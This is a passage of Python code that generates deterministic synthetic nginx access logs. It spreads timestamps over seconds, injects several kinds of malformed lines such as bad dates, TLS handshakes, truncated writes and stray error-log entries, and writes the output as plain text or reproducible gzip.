    for minute, count in zip(minutes, _split(spec.lines, weights), strict=True):
        if not count:
            continue
        seconds = range(max(first, minute * 60), min(last, minute * 60 + 59) + 1)
        for second, n in zip(seconds, _split(count, [_second_weight(rng) for _ in seconds]), strict=True):
            if n:
                yield _format_time(second + offset, zone), n


def _times(spec: LogSpec) -> Iterator[str]:
    """One time string per line, non-decreasing."""
    return chain.from_iterable(repeat(t, n) for t, n in _second_counts(spec))


# ---------------------------------------------------------------------------------------------------------
# Malformed lines


# Kinds cycle in a fixed order so that even a few dozen malformed lines include every kind.
_MALFORMED_CYCLE = ("tls", "combined", "dash", "garbage", "tls", "bad_date", "dash", "combined")
_BAD_DATES = (
    "99/Foo/2023:25:61:61 +0000",
    "32/Aug/2023:23:00:00 {zone}",
    "12/Agu/2023:23:15:00 {zone}",
    "12/Aug/2023:24:00:00 {zone}",
    "00/Aug/2023:12:00:00 {zone}",
)
_GARBAGE = (
    "this is not an nginx log line at all",
    "-- MARK --",
    '{"level":"info","msg":"reopening log files"}',
    "nginx: [alert] could not open error log file: open() failed (13: Permission denied)",
    "GET / HTTP/1.1",
    "Connection reset by peer",
)


class _Malformer:
    """Replaces lines at jittered, evenly spread positions with broken ones."""

    def __init__(self, spec: LogSpec) -> None:
        self._rng = _rng(spec.seed, "malformed")
        self._ratio = spec.malformed_ratio
        self._zone = _zone(spec.utc_offset_minutes)
        self._kind = self._rng.randrange(len(_MALFORMED_CYCLE))
        self._pos = self._rng.random() / self._ratio if self._ratio else math.inf
        self._next = int(self._pos) if self._ratio else -1

    def apply(
        self,
        lines: list[str],
        offset: int,
        clients: Sequence[_Client],
        picks: Sequence[int],
        times: Sequence[str],
    ) -> None:
        """Overwrite the malformed positions that fall in lines[0:], which starts at line number offset."""
        end = offset + len(lines)
        while 0 <= self._next < end:
            j = self._next - offset
            lines[j] = self._line(clients[j], clients[j][1][picks[j]], times[j])
            self._advance()

    def _advance(self) -> None:
        current = self._next
        self._pos += self._rng.uniform(0.5, 1.5) / self._ratio
        self._next = max(int(self._pos), current + 1)
        self._kind = (self._kind + 1) % len(_MALFORMED_CYCLE)

    def _line(self, client: _Client, request: str, time: str) -> str:
        kind = _MALFORMED_CYCLE[self._kind]
        rng = self._rng
        if kind == "tls":
            return f'{client[4]} - - [{time}] "{_tls_hello(rng)}" 400 157 "-" "-" "-"'
        if kind == "dash":
            return f'{client[4]} - - [{time}] "-" 400 0 "-" "-" "-"'
        if kind == "combined":
            return f"{client[0]} [{time}] {request} {client[3]}"
        if kind == "bad_date":
            return f"{client[0]} [{rng.choice(_BAD_DATES).format(zone=self._zone)}] {request} {client[2]}"
        return _garbage(rng, client, request, time)


def _tls_hello(rng: random.Random) -> str:
    """The start of a TLS ClientHello sent to a plain-HTTP port, as nginx logs it."""
    length = rng.randrange(0xC0, 0x200)
    record = bytes([0x16, 0x03, 0x01, *divmod(length, 256)])  # handshake record, TLS 1.0 framing
    hello = bytes([0x01, 0x00, *divmod(length - 4, 256), 0x03, 0x03])  # ClientHello, TLS 1.2
    return nginx_escape(record + hello)


def _garbage(rng: random.Random, client: _Client, request: str, time: str) -> str:
    """A line no access-log parser accepts: cut short, from the error log, or unrelated text."""
    choice = rng.randrange(4)
    if choice == 0:  # a write cut short, e.g. by a crash or a full disk
        line = f"{client[0]} [{time}] {request} {client[2]}"
        return line[: len(client[0]) + 2 + rng.randrange(1, len(time))]
    if choice == 1:
        return _error_log_line(rng, client[4], time)
    return rng.choice(_GARBAGE)


def _error_log_line(rng: random.Random, ip: str, time: str) -> str:
    """An error-log line that landed in the access log (a common misconfiguration)."""
    month = _MONTHS.index(time[3:6]) + 1
    stamp = f"{time[7:11]}/{month:02d}/{time[0:2]} {time[12:20]}"
    path = rng.choice(("/favicon.ico", "/.env", "/wp-login.php", "/apple-touch-icon-precomposed.png"))
    pid = rng.randrange(20, 40)
    return (
        f'{stamp} [error] {pid}#{pid}: *{rng.randrange(1, 99999)} open() "/usr/share/nginx/html{path}" '
        f"failed (2: No such file or directory), client: {ip}, server: www.example.com, "
        f'request: "GET {path} HTTP/1.1", host: "www.example.com"'
    )


# ---------------------------------------------------------------------------------------------------------
# Public API


def _chunks(spec: LogSpec) -> Iterator[list[str]]:
    """Lines in batches of up to _CHUNK."""
    pools = _pools(spec.seed)
    rng = _rng(spec.seed, "lines")
    times = _times(spec)
    malformer = _Malformer(spec)
    bits = rng.getrandbits
    done = 0
    while done < spec.lines:
        n = min(_CHUNK, spec.lines - done)
        ts = list(islice(times, n))
        cs = rng.choices(pools.clients, cum_weights=pools.cum_weights, k=n)
        picks = [bits(_POOL_BITS) for _ in range(n)]
        lines = [f"{c[0]} [{t}] {c[1][i]} {c[2]}" for c, i, t in zip(cs, picks, ts, strict=True)]
        malformer.apply(lines, done, cs, picks, ts)
        done += n
        yield lines


def generate_lines(spec: LogSpec) -> Iterator[str]:
    """Yield the log's lines (without newline), lazily."""
    for chunk in _chunks(spec):
        yield from chunk


@contextmanager
def _binary_writer(path: Path) -> Iterator[Callable[[bytes], object]]:
    """A write function for the file, gzip-compressed when its name ends in .gz."""
    with path.open("wb") as raw:
        if path.suffix != ".gz":
            yield raw.write
            return
        # No file name and mtime 0 in the header, so that the same spec gives the same bytes.
        with gzip.GzipFile(filename="", mode="wb", fileobj=raw, compresslevel=_GZIP_LEVEL, mtime=0) as gz:
            yield gz.write


def write_log(spec: LogSpec, out: Path | TextIO) -> int:
    """Write the log to a file (gzip if its name ends in .gz) or a text stream; return the line count."""
    if isinstance(out, Path):
        with _binary_writer(out) as write_bytes:
            return _write(spec, lambda text: write_bytes(text.encode("ascii")))
    return _write(spec, out.write)


def _write(spec: LogSpec, write: Callable[[str], object]) -> int:
    """Write the lines in large blocks; return how many."""
    count = 0
    for chunk in _chunks(spec):
        write("\n".join(chunk))
        write("\n")
        count += len(chunk)
    return count
